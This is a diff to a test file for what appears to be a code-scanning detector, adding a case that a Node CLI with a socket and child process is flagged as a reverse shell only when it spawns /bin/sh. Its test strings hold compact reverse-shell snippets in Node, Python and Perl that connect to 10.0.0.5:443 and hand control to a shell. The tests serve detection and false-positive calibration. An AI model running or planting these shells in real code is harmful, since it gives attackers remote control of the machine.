@@ -176,6 +176,11 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     expect(worst(`${codes}\n${'x = compute(a, b) # ordinary code\n'.repeat(1500)}`)).toBe('info');
     expect(worst(`Write-Host "Done${'`n'.repeat(15)}"\n$msg = "a\`tb\`r\`n"`)).toBe('info');
   });
+  it('a Node CLI client with a socket and child processes is not a reverse shell unless it spawns a shell', () => {
+    const cli = 'const net = require("net");\nconst { spawn } = require("child_process");\nconst sock = net.connect(port, host);\nsock.on("data", (d) => out.write(d));\nconst child = spawn(process.execPath, [script]);\nchild.stdout.pipe(sock);';
+    expect(technique(cli, 'revshell.node')).toBeUndefined();
+    expect(technique(cli.replace('spawn(process.execPath, [script])', 'spawn("/bin/sh", [])'), 'revshell.node')?.severity).toBe('critical');
+  });
   it('the same capabilities with the attack shape are still found', () => {
     expect(technique('import socket,os\ns=socket.socket()\ns.connect(("10.0.0.5",443))\nos.dup2(s.fileno(),0)\nos.system("/bin/sh")', 'revshell.python')?.severity).toBe('critical');
     expect(technique('use IO::Socket;$c=IO::Socket::INET->new("10.0.0.5:443");while(<$c>){system $_}', 'revshell.perl')?.severity).toBe('critical');
